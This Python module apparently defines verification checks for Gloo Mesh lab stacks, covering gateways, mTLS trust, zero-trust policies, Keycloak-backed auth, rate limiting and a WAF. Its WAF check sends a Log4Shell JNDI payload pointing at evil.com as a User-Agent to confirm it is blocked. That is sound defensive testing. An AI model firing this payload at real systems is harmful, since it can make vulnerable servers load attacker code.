"""Which checks apply to a stack, and how each one probes.

`checks_for(outputs)` turns the enabled features into an ordered list of `Check`s (lab order, so the
rate-limit check, which uses up user2's quota, runs after the checks that need user2's 200s).
Each check's `probe` gathers responses through a `Probe` and hands them to a pure verdict.
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass

from tools.verify.probe import Probe, Skipped, keycloak_missing

from . import verdicts as v
from .http import Response
from .kube import CommandResult
from .outputs import StackOutputs
from .verdicts import Verdict

LOG4SHELL = "${jndi:ldap://evil.com/x}"
RATE_LIMIT = 3
SPLIT_SAMPLES = 12  # a 50/50 split shows both sides within 12 requests but for 1 in 2000 runs
PURE_SAMPLES = 2
REVIEWS_URL = "http://reviews.bookinfo-backends.svc.cluster.local:9080/reviews/0"







#: Features whose checks send a password grant to Keycloak (external-service does too, with oauth).
TOKEN_FEATURES = frozenset({"keycloak", "oauth", "opa", "jwt", "transformation", "rate-limit"})


def needs_tokens(o: StackOutputs) -> bool:
    """Whether a check of these outputs will POST the client secret and a user's password to Keycloak."""
    return bool(o.features & TOKEN_FEATURES) and keycloak_missing(o) is None






@dataclass(frozen=True)
class Check:
    lab: str
    name: str
    probe: Callable[[Probe], Verdict]
    skip: str | None = None


# --- targets derived from the outputs ---------------------------------------------------------------


def productpage_urls(o: StackOutputs) -> dict[str, str]:
    """cluster → productpage URL: the program's `productpageUrls`, else derived from the gateways.

    Without virtual destinations only the first workload cluster's gateway serves the productpage
    (the Lab 9 VirtualGateway selects cluster1); with them, every workload cluster's does.
    """
    if o.productpage_urls:
        return dict(o.productpage_urls)
    scheme = "https" if o.has("gateway-tls") else "http"
    clusters = o.workload_clusters if o.has("virtual-destinations") else (o.first_cluster,)
    return {c: f"{o.gateway(c, scheme)}/productpage" for c in clusters}


def first_productpage(o: StackOutputs) -> tuple[str, str]:
    urls = productpage_urls(o)
    cluster = o.first_cluster if o.first_cluster in urls else next(iter(urls))
    return cluster, urls[cluster]


def httpbin_get_url(o: StackOutputs) -> str:
    return o.httpbin_url or f"{o.gateway(o.first_cluster, 'https')}/get"


def httpbin_cluster(o: StackOutputs) -> str:
    return o.httpbin_cluster or o.first_cluster


def _https_to_http(url: str, o: StackOutputs, cluster: str) -> str:
    path = urllib.parse.urlsplit(url).path or "/"
    return f"{o.gateway(cluster, 'http')}{path}"


# --- the catalogue ----------------------------------------------------------------------------------


def _gateway(o: StackOutputs) -> list[Check]:
    checks = []
    for cluster, url in productpage_urls(o).items():
        scheme = urllib.parse.urlsplit(url).scheme.upper()
        checks.append(Check("gateway", f"productpage 200 over {scheme} on {cluster}",
                            lambda p, url=url: v.status_is(p.get(url), 200)))
    return checks


def _gateway_tls(o: StackOutputs) -> list[Check]:
    checks = []
    for cluster, url in productpage_urls(o).items():
        checks.append(Check("gateway-tls", f"productpage 200 over HTTPS on {cluster}",
                            lambda p, url=url: _https_status(p, url, 200)))
        plain = _https_to_http(url, o, cluster)
        checks.append(Check("gateway-tls", f"HTTP redirects to HTTPS on {cluster}",
                            lambda p, plain=plain: v.redirects_to_https(p.get(plain))))
    return checks


def _https_status(p: Probe, url: str, status: int) -> Verdict:
    if not url.startswith("https://"):
        return Verdict.failed(f"productpageUrls gives {url}, not an https:// URL")
    return v.status_is(p.get(url), status)


def _traffic_policies(o: StackOutputs) -> list[Check]:
    cluster, url = first_productpage(o)
    return [Check("traffic-policies", f"productpage on {cluster} shows reviews unavailable (0.5 s timeout)",
                  lambda p: v.body_contains(p.get(url), v.REVIEWS_UNAVAILABLE))]


def _root_trust(o: StackOutputs) -> list[Check]:
    clusters = o.workload_clusters

    def shared_root(p: Probe) -> Verdict:
        p.need_kube(*clusters)
        return v.same_root({c: p.kube.cacerts_root(c) for c in clusters})

    checks = [Check("root-trust", "cacerts secrets share one root (kubectl)", shared_root)]
    for cluster in clusters:
        def chain(p: Probe, cluster: str = cluster) -> Verdict:
            p.need_kube(cluster)
            result = p.kube.sidecar_chain(cluster)
            return v.issued_by_gloo_mesh(result.stdout)
        checks.append(Check("root-trust", f"reviews→ratings chain issued by gloo-mesh on {cluster} (kubectl)", chain))
    return checks


def _every_cluster_serves(o: StackOutputs, lab: str) -> list[Check]:
    urls = productpage_urls(o)
    missing = [c for c in o.workload_clusters if c not in urls]
    checks = [Check(lab, f"productpage 200 through {cluster}'s gateway",
                    lambda p, url=url: v.status_is(p.get(url), 200)) for cluster, url in urls.items()]
    if missing:
        checks.append(Check(lab, "every workload cluster exposes the productpage",
                            lambda p: Verdict.failed(f"productpageUrls has no URL for {', '.join(missing)}")))
    return checks


def _command_verdict(result: CommandResult, expected: str) -> Verdict:
    verdict = v.http_code_is(result.stdout, expected)
    if not verdict.ok and result.stderr.strip():
        return Verdict.failed(f"{verdict.detail}; stderr: {result.stderr.strip()[-200:]!r}")
    return verdict


def _zero_trust(o: StackOutputs) -> list[Check]:
    first = o.first_cluster
    httpbin = httpbin_cluster(o)
    _, page = first_productpage(o)

    def from_httpbin(app: str, expected: str) -> Callable[[Probe], Verdict]:
        def check(p: Probe) -> Verdict:
            p.need_kube(httpbin)
            return _command_verdict(p.kube.curl_code_from(httpbin, "httpbin", app, REVIEWS_URL), expected)
        return check

    def from_productpage(service: str, path: str, expected: str) -> Callable[[Probe], Verdict]:
        def check(p: Probe) -> Verdict:
            p.need_kube(first)
            url = f"http://{service}.bookinfo-backends:9080/{path}"
            result = p.kube.python_status_from(first, "bookinfo-frontends", "productpage-v1", "productpage", url)
            return _command_verdict(result, expected)
        return check

    return [
        Check("zero-trust", "productpage still reachable through the gateway", lambda p: v.status_is(p.get(page), 200)),
        Check("zero-trust", "not-in-mesh → reviews cannot connect (000) (kubectl)", from_httpbin("not-in-mesh", "000")),
        Check("zero-trust", "in-mesh → reviews denied 403 (kubectl)", from_httpbin("in-mesh", "403")),
        Check("zero-trust", "productpage → details allowed 200 (kubectl)", from_productpage("details", "details/0", "200")),
        Check("zero-trust", "productpage → reviews allowed 200 (kubectl)", from_productpage("reviews", "reviews/0", "200")),
        Check("zero-trust", "productpage → ratings denied 403 (kubectl)", from_productpage("ratings", "ratings/0", "403")),
    ]


def _sampling_user(o: StackOutputs) -> str | None:
    """Who calls `/get` when OAuth guards it: user1 is outside the solo.io rate limit, unless OPA denies user1."""
    if not o.has("oauth"):
        return None
    return "user2" if o.has("opa") else "user1"


def _external_service(o: StackOutputs) -> list[Check]:
    url = httpbin_get_url(o)
    user = _sampling_user(o)
    weight = o.external_service_weight

    def headers(p: Probe) -> dict[str, str]:
        return p.bearer(user) if user else {}

    def answers(p: Probe) -> Verdict:
        response = p.get(url, headers(p))
        if v.served_by(response) is None:
            return Verdict.failed(f"expected httpbin's 200 echo, got {response.describe()}")
        return Verdict.passed(f"200 from the {v.served_by(response)} httpbin")

    def split(p: Probe) -> Verdict:
        assert weight is not None
        h = headers(p)
        samples = [p.get(url, h)]
        limit = PURE_SAMPLES if weight in (0, 100) else SPLIT_SAMPLES
        while len(samples) < limit:
            origins = {v.served_by(r) for r in samples}
            if None in origins or (weight not in (0, 100) and origins == {"local", "external"}):
                break
            samples.append(p.get(url, h, fresh=True))
        return v.traffic_split(samples, weight)

    split_skip = None if weight is not None else "stack outputs lack externalServiceWeight"
    return [
        Check("external-service", f"GET {urllib.parse.urlsplit(url).path} answered by httpbin", answers),
        Check("external-service", f"requests split by externalServiceWeight={weight}", split, skip=split_skip),
    ]


def _keycloak(o: StackOutputs) -> list[Check]:
    def discovery(p: Probe) -> Verdict:
        if not o.keycloak_url:
            raise Skipped("stack outputs lack keycloakUrl")
        url = f"{o.keycloak_url}/realms/{o.keycloak_realm}/.well-known/openid-configuration"
        return v.discovery_document(p.get(url), o.keycloak_realm)

    checks = [Check("keycloak", f"realm {o.keycloak_realm!r} serves its OpenID configuration", discovery)]
    for user in ("user1", "user2"):
        def grant(p: Probe, user: str = user) -> Verdict:
            p.token(user)
            return Verdict.passed(f"password grant for {user} returned an id_token")
        checks.append(Check("keycloak", f"password grant for {user}", grant))
    return checks


def _oauth(o: StackOutputs) -> list[Check]:
    url = httpbin_get_url(o)

    def anonymous(p: Probe) -> Verdict:
        return v.redirects_to_keycloak(p.get(url))

    return [
        Check("oauth", "GET /get without a token redirects to Keycloak", anonymous),
        Check("oauth", "GET /get with user2's token 200", lambda p: v.status_is(p.get(url, p.bearer("user2")), 200)),
    ]


def _opa(o: StackOutputs) -> list[Check]:
    url = httpbin_get_url(o)
    return [
        Check("opa", "user1 (not @solo.io) denied 403", lambda p: v.status_is(p.get(url, p.bearer("user1")), 403)),
        Check("opa", "user2 (@solo.io) allowed 200", lambda p: v.status_is(p.get(url, p.bearer("user2")), 200)),
    ]


def user2_email(o: StackOutputs) -> str:
    user = o.keycloak_users.get("user2")
    return user.email if user and user.email else "user2@solo.io"


def _jwt(o: StackOutputs) -> list[Check]:
    url = httpbin_get_url(o)
    email = user2_email(o)
    return [Check("jwt", f"X-Email: {email} reaches httpbin",
                  lambda p: v.echoed_header_is(p.get(url, p.bearer("user2")), "X-Email", email))]


def _transformation(o: StackOutputs) -> list[Check]:
    url = httpbin_get_url(o)
    organization = user2_email(o).rpartition("@")[2]
    return [Check("transformation", f"X-Organization: {organization} reaches httpbin",
                  lambda p: v.echoed_header_is(p.get(url, p.bearer("user2")), "X-Organization", organization))]


def _rate_limit(o: StackOutputs) -> list[Check]:
    url = httpbin_get_url(o)

    def burst(p: Probe) -> Verdict:
        headers = p.bearer("user2")
        responses: list[Response] = []
        for _ in range(RATE_LIMIT + 1):
            responses.append(p.get(url, headers, fresh=True))
            if responses[-1].status != 200:
                break
        return v.rate_limited(responses, RATE_LIMIT)

    return [Check("rate-limit", f"user2 gets 429 within {RATE_LIMIT + 1} requests", burst)]


def _waf(o: StackOutputs) -> list[Check]:
    cluster, url = first_productpage(o)
    return [Check("waf", f"Log4Shell User-Agent blocked 403 on {cluster}",
                  lambda p: v.waf_blocked(p.get(url, {"User-Agent": LOG4SHELL})))]


def _needs_keycloak(builder: Callable[[StackOutputs], list[Check]], *users: str) -> Callable[[StackOutputs], list[Check]]:
    """Checks that need tokens are skipped up front, naming the missing outputs."""
    def build(o: StackOutputs) -> list[Check]:
        checks = builder(o)
        reason = keycloak_missing(o, *users)
        if reason is None:
            return checks
        return [Check(c.lab, c.name, c.probe, skip=c.skip or reason) for c in checks]
    return build


def _external_service_checks(o: StackOutputs) -> list[Check]:
    user = _sampling_user(o)
    return _needs_keycloak(_external_service, user)(o) if user else _external_service(o)


#: feature → its checks, in lab order.
CATALOGUE: tuple[tuple[str, Callable[[StackOutputs], list[Check]]], ...] = (
    ("gateway", _gateway),
    ("gateway-tls", _gateway_tls),
    ("traffic-policies", _traffic_policies),
    ("root-trust", _root_trust),
    ("virtual-destinations", lambda o: _every_cluster_serves(o, "virtual-destinations")),
    ("failover", lambda o: _every_cluster_serves(o, "failover")),
    ("zero-trust", _zero_trust),
    ("external-service", _external_service_checks),
    ("keycloak", _keycloak),
    ("oauth", _needs_keycloak(_oauth, "user2")),
    ("opa", _needs_keycloak(_opa, "user1", "user2")),
    ("jwt", _needs_keycloak(_jwt, "user2")),
    ("transformation", _needs_keycloak(_transformation, "user2")),
    ("rate-limit", _needs_keycloak(_rate_limit, "user2")),
    ("waf", _waf),
)

#: Features with no observable behaviour of their own (another lab's checks exercise them).
NO_CHECKS: dict[str, str] = {
    "httpbin-workspace": "exercised by external-service and oauth (the httpbin route needs the workspace)",
}


def checks_for(o: StackOutputs) -> list[Check]:
    """The checks of every enabled feature, in lab order."""
    checks: list[Check] = []
    for feature, builder in CATALOGUE:
        if o.has(feature):
            checks.extend(builder(o))
    return checks


def unchecked_features(o: StackOutputs) -> dict[str, str]:
    """Enabled features the verifier has no check for, with why (unknown names included)."""
    known = {f for f, _ in CATALOGUE}
    result = {f: NO_CHECKS[f] for f in sorted(o.features) if f in NO_CHECKS}
    result.update({f: "unknown to this verifier" for f in sorted(o.features) if f not in known and f not in NO_CHECKS})
    return result
